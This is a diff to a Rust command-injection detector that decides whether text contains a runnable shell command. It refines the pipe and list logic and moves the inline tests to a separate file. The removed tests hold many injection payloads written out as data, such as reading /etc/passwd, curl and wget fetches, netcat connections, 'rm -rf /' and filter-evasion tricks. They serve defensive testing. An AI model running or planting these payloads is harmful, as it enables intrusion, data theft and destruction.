@@ -1,5 +1,7 @@
 //! The shell grammar: does a command stand where a shell would run one?
 
+#[cfg(test)]
+mod tests;
 mod words;
 
 use words::{
@@ -142,7 +144,9 @@ fn runs(value: &[u8], start: usize, operator: &[u8], word: &[u8], rest: &[u8]) -
             // A field of a table: `2;Cat;3`.
             let is_field = before == Before::Text && operator == b";" && rest.starts_with(b";") && !ends;
             bare && !is_field
-                && (!in_list(value, start) || operator == b";" && ends && !rest.is_empty())
+                && (!in_list(value, start)
+                    || matches!(operator, b";" | b"||") && ends && !rest.is_empty()
+                    || operator != b"|" && is_piped(rest))
                 && !matches!(operator, b"(" | b"{")
                 && (operator != b"&" || before == Before::Nothing)
         }
@@ -239,6 +243,13 @@ fn what_precedes(before: &[u8]) -> Before {
 /// Whether a substitution ends right after the command.
 fn is_closed(rest: &[u8]) -> bool {
     matches!(rest.trim_ascii_start().first(), Some(b'`' | b')'))
+}
+
+/// Whether a bar and a command that is no ordinary word come next, and nothing else.
+fn is_piped(rest: &[u8]) -> bool {
+    let Some(rest) = rest.strip_prefix(b"|") else { return false };
+    let (word, rest) = command_word(rest);
+    rest.is_empty() && is_one_of(COMMANDS, word.as_slice())
 }
 
 /// Whether a word comes next.
@@ -490,137 +501,5 @@ impl Word {
 
     fn as_slice(&self) -> &[u8] {
         &self.bytes[..self.length]
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::is_command;
-
-    fn check(text: &str) -> bool {
-        let start = text.find([';', '|', '&', '`', '$', '\n']).unwrap();
-        is_command(text.as_bytes(), start, text.len())
-    }
-
-    #[test]
-    fn commands() {
-        for text in [
-            ";cat /etc/passwd",
-            "1; id",
-            "127.0.0.1|id",
-            "x && whoami",
-            "a;c''at /etc/hosts",
-            ";/bin/c\\at /x",
-            "`id`",
-            "$(id)",
-            "$(curl http://x.example/a)",
-            ";ping -c 3 10.0.0.1",
-            "| ping 127.0.0.1",
-            ";cat${IFS}/etc/hosts",
-            "$(/???/c?t /x)",
-            "\nwget http://x.example/s.sh",
-            ";nc 10.0.0.1 4444",
-            ";sleep 5",
-            ";uname -a",
-            "|whoami;",
-            "&&id",
-            "x;id;",
-            "x$(id)",
-            "a`id`",
-            ";grep root /etc/passwd",
-            ";echo x > /tmp/x",
-            ";busybox nc 10.0.0.1 80",
-            ";w'h'o'am'i",
-            "ping it | nc 10.0.0.1 99",
-            "127.0.0.1; id",
-            "x|sleep 5",
-            "|| sleep 10",
-            "x; sleep 5",
-            "& ping -c 10 127.0.0.1",
-            "see it; cat /etc/hosts",
-            "see it; head -n 5 x",
-            ";cat</etc/hosts",
-            ";cat *",
-            "x;python -c 'x'",
-            "see it; cat config.php",
-            "see it; rm -rf /",
-            ";zip x /etc/hosts -T -TT 'id'",
-            ";find . -exec id ;",
-            "`ls`;",
-            "see it; curl x.example",
-            "see it; echo $x > a.txt",
-        ] {
-            assert!(check(text), "{text}");
-        }
-    }
-
-    #[test]
-    fn prose_and_lists() {
-        for text in [
-            "name|id|type",
-            "tea; cat and dog",
-            "cats & dogs",
-            "a;id=5",
-            "x; find out more",
-            "read it; more follows",
-            "black|cat",
-            "a && b",
-            "price is $ (about",
-            "u;q=0.9",
-            "Into<Option<&Id>>",
-            "```sh\nls -l\n```",
-            "| Type  | Null |",
-            "one; curl is a tool",
-            "fish & date",
-            "name;id",
-            "bread & more",
-            "list them all with lspci | grep -i vga",
-            "the machine has a device like `perl -V` says",
-            "name;type\n1;Anna",
-            "a longer text about $(date +%s) in scripts",
-            "Deals; top 10",
-            "Doors open; at 8 pm we start",
-            "Buy 2 & get 1 free; top 10 list",
-            "2 eggs; cut 3 onions",
-            "Stop & go 5",
-            "Ready; set -- go!",
-            "Eat; sleep 8 hours",
-            "Stop & sleep 5",
-            "Bob; id 15",
-            "<p>Wine & more</p>",
-            "<li>Time & date</li>",
-            "Wine & more<br/>",
-            "<p>Beer & find out</p>",
-            "Java & Python",
-            "Skills: C++; Bash",
-            "Linux; bash",
-            "PHP && Perl",
-            "Linux | bash",
-            "Windows; zsh -- my shells",
-            "a day off; free $5 coupon",
-            "read it; more and/or less",
-            "I agree; date night?",
-            "run: |\n  echo \"v=$x\" >> $OUT\n  npm ci",
-            "RUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
-            "id;name;price\n2;Cat;3,50",
-            "rm -rf build && make -j4",
-            "echo \"hello\" > out.txt; cat out.txt",
-            "export FOO=bar; echo $FOO prints it",
-            "pip install -r requirements.txt && python manage.py migrate",
-            "a script that lists files: ls -la | grep foo; then delete /tmp/x",
-            "to try it, git pull && docker build .",
-            "\n  Python 3.11 for Debian",
-            "installed with :pypi:`pip` and more",
-            ".. _`pip hash`:\n\nUsage",
-            "best way to ping host; traceroute",
-            "Binary\nSource",
-            "\n\t\tHexdump: ",
-            "\n\nTop %d lines:",
-            "pruning %s cache; time %ld",
-            "do this:\n  touch %s\n",
-            "prints the second column; cut -d';' -f1 takes the first",
-        ] {
-            assert!(!check(text), "{text}");
-        }
     }
 }
